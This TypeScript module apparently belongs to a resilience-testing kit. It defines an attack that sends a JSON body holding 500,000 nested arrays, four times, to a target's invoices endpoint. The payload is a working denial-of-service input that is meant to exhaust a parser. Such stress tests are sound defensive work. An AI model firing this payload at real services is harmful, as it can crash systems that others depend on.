import type { Attack } from '../kit/attack.js';

export const attack: Attack = {
  name: 'bodies of half a million nested arrays',
  async run(target) {
    const body = `{"items":${'['.repeat(500_000)}${']'.repeat(500_000)}}`;
    await target.repeat(4, () => target.call('POST /api/v1/invoices', body));
  },
};
